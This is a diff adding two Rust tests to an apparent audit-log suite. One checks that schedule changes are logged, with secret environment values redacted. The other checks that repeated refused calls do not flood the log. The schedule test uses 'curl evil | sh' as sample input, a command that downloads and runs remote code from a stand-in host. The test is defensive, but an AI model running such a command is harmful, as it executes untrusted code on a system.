@@ -117,3 +117,50 @@ async fn what_cannot_be_written_down_is_not_done() {
     let changed = other.execute("UPDATE audit SET who = 'nobody'", []);
     assert!(changed.unwrap_err().to_string().contains("stays as it is"));
 }
+
+#[tokio::test]
+async fn what_a_schedule_runs_is_written_down() {
+    let rig = rig().await;
+    rig.register("box").await;
+    let old = json!({"name": "old", "cron": "@daily", "command": ["true"]});
+    let new =
+        json!({"name": "new", "cron": "@hourly", "shell": "curl evil | sh", "env": {"K": "hush"}});
+    for entries in [json!([old]), json!([old, new]), json!([])] {
+        let body = json!({"entries": entries}).to_string();
+        rig.client
+            .put::<Value>("/schedules/box", body)
+            .await
+            .unwrap();
+    }
+    let found = acts(&rig, "act=schedules.put&on=box").await;
+    let told: Vec<&str> = found
+        .iter()
+        .map(|a| a["detail"].as_str().unwrap())
+        .collect();
+    assert_eq!(told.len(), 3);
+    assert!(
+        told[1].contains("curl evil | sh") && told[1].contains("@hourly"),
+        "{told:?}"
+    );
+    assert!(
+        !told[1].contains("@daily") && !told[1].contains("hush"),
+        "{told:?}"
+    );
+    assert!(told[0].contains("removed \"new\""), "{told:?}");
+    assert!(
+        told.iter().all(|detail| detail.contains("revision ")),
+        "{told:?}"
+    );
+}
+
+#[tokio::test]
+async fn who_has_many_calls_refused_does_not_fill_the_log() {
+    let rig = rig().await;
+    let key = token(&rig, "eyes", "viewer", &[]).await;
+    for _ in 0..150 {
+        let told = ask(rig.url(), "DELETE", "/tokens/x", &[&bearer(&key)], "").await;
+        assert_eq!(told.status, 403);
+    }
+    let written = acts(&rig, "who=eyes&limit=1000").await.len();
+    assert!((100..140).contains(&written), "{written}");
+}
